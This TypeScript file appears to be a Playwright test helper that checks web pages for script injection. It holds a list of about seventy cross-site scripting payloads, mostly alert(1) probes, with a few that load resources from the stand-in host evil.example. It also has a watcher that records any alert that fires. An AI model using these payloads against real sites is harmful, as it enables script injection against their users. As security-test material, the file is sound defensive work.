// Strings that run script where text is taken for markup, and a watch that notices it
// (docs/design/trust.md#pages).
import type { Page } from 'playwright';

/** Each calls `alert` in some context: markup, attributes, addresses, style, templates, broken parsers. */
export const alertCorpus: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<script type="module">alert(1)</script>',
  '<script>/*\n*/alert(1)//</script>',
  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<img srcset="x 1x" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</pre><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</noscript><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<dialog open onclose=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '<img src=x onerror=alert(1)>\u0000',
  '\u202e<img src=x onerror=alert(1)>\u202c',
  '\ufeff<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<x'.repeat(40) + ' onclick=alert(1)>',
  'W'.repeat(300),
];

/** Records every script of the corpus that runs. Call it before the first page opens. */
export async function watchScripts(page: Page): Promise<() => Promise<readonly string[]>> {
  const ran: string[] = [];
  page.on('dialog', (dialog) => {
    if (dialog.type() !== 'beforeunload') ran.push(dialog.message());
    void dialog.accept();
  });
  await page.exposeFunction('noteAlert', (text: string) => ran.push(text));
  await page.addInitScript('window.alert = (text) => window.noteAlert(String(text))');
  return async () => {
    await page.waitForTimeout(50); // handlers of broken images come later
    const elements = await page.locator('main :is(script, iframe, object, embed, base, meta, style)').count();
    return elements > 0 ? [...ran, 'a forbidden element'] : ran;
  };
}

/** Cuts the corpus into texts of at most `most` characters, one string a line. */
export function corpusTexts(most: number): readonly string[] {
  const texts: string[] = [];
  for (const one of alertCorpus) {
    const last = texts.at(-1);
    const joined = last === undefined ? one : `${last}\n${one}`;
    if (last !== undefined && joined.length <= most) texts[texts.length - 1] = joined;
    else texts.push(one.slice(0, most));
  }
  return texts;
}
